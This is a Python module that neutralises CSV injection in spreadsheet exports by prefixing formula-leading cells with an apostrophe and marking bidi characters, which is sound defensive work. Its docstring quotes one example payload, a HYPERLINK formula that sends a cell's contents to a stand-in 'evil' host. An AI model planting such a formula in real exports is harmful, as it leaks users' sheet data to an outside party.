"""Spreadsheet-safe exports. A cell that starts with =, +, -, @, a tab or a carriage return is
run as a formula by Excel and LibreOffice (CSV injection: ``=HYPERLINK("http://evil/?"&A1)``
leaks the sheet); every CSV and XLSX export writes its cells through ``safe_cell``, which
prefixes such text with an apostrophe, the way spreadsheets mark literal text (OWASP)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from typing import Any

from .text import mark_bidi

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """Text that a spreadsheet would run as a formula, made literal, and characters that
    reorder text on screen shown as visible markers (<U+202E>); anything else unchanged
    (numbers stay numbers; negative numbers are not text and are safe)."""
    if isinstance(value, str):
        value = mark_bidi(value)
        if value.startswith(FORMULA_START):
            return "'" + value
    return value


def csv_lines(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> Iterator[str]:
    """CSV text line by line (for a streaming response), every cell through ``safe_cell``;
    with a BOM first, so Excel in Japan opens UTF-8 correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if bom:
        yield "\ufeff"
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate(0)
